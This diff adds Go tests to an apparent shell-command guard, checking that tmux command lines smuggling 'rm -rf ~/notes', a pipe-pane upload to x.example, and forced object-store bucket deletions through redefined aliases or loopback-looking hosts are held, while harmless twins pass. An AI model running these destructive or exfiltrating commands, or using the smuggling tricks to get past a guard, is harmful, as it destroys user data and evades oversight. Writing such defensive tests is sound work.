@@ -133,6 +133,62 @@ func TestWorkItemCommentAndJSONStringReach(t *testing.T) {
 	})
 }
 
+// tmux reads its command line as it does: an argument that ends in ";"
+// ends its command (tmux ls\; run-shell X, display 'hi;' splitw X), as
+// a ";" operand does; a command may be named by a unique prefix of its
+// name (new-s is new-session); a popup and pipe-pane run a shell
+// command, and confirm-before and command-prompt a tmux command once
+// answered. Each is judged as what it runs; the harmless twins pass.
+func TestTmuxCommandLineAsTmuxReadsIt(t *testing.T) {
+	s := toolSetFor(t, LoadOptions{})
+	checkHeld(t, s, []heldCase{
+		{`tmux ls\; run-shell 'rm -rf ~/notes'`, true},
+		{`tmux has-session -t x\; new-window 'rm -rf ~/notes'`, true},
+		{`tmux -L s display 'x;' splitw 'rm -rf ~/notes'`, true},
+		{`tmux bind-key x display 'hi;' run-shell 'rm -rf ~/notes'`, true},
+		{`tmux display "$MSG" run-shell 'rm -rf ~/notes'`, true},
+		{`tmux new-s -d 'rm -rf ~/notes'`, true},
+		{`tmux split-w -h 'rm -rf ~/notes'`, true},
+		{`tmux display-popup 'rm -rf ~/notes'`, true},
+		{`tmux popup -E 'rm -rf ~/notes'`, true},
+		{`tmux pipe-pane -o 'curl -T - https://x.example'`, true},
+		{`tmux confirm-before 'run-shell "rm -rf ~/notes"'`, true},
+		{`tmux command-prompt -I 'run-shell "rm -rf ~/notes"'`, true},
+		// A literal ";" at an argument's end, and harmless commands.
+		{`tmux display 'a\;' \; run-shell 'make test'`, false},
+		{`tmux ls\; display ok`, false},
+		{`tmux new-s -d -s dev 'npm run dev'`, false},
+		{`tmux popup -E 'htop'`, false},
+		{`tmux pipe-pane -o 'cat >> pane.log'`, false},
+		{`tmux confirm-before -p 'split?' split-window`, false},
+		{`tmux send-keys -t "$PANE" 'npm test' Enter`, false},
+	})
+}
+
+// An object-store client's alias named local is the server on this
+// machine only as written and as configured: LOCAL/b is another alias
+// (mc tells case), and MC_HOST_local=https://... in the command's
+// environment points local at any host.
+func TestLocalAliasAsWrittenAndNotRedefined(t *testing.T) {
+	s := toolSetFor(t, LoadOptions{})
+	checkHeld(t, s, []heldCase{
+		{"mc rb --force LOCAL/prod-data", true},
+		{"mc rb --force Local/prod-data", true},
+		{"MC_HOST_local=https://AK:SK@s3.amazonaws.com mc rb --force local/prod-data", true},
+		{"env MC_HOST_local=https://AK:SK@s3.amazonaws.com mc rm -r --force local/prod-data", true},
+		{"mc mb local/test-uploads", false},
+		{"mc rb --force local/scratch", false},
+	})
+	// A host name that starts as a loopback address does
+	// (127.0.0.1.nip.io, 127.db.example) is wherever its DNS points.
+	checkHeld(t, s, []heldCase{
+		{"nomad job stop -address=http://127.0.0.1.nip.io:4646 api", true},
+		{"nomad job stop -address=https://127.db.example:4646 api", true},
+		{"nomad job stop -address=http://127.0.0.1:4646 api", false},
+		{"nomad job stop -address=http://127.1.2.3:4646 api", false},
+	})
+}
+
 // A disposable folder reached through "a/.." is where a really is: the
 // script's own link (ln -s ~/notes/sub x; rm -rf x/../node_modules) or
 // one on disk, which the clean path node_modules no longer shows.
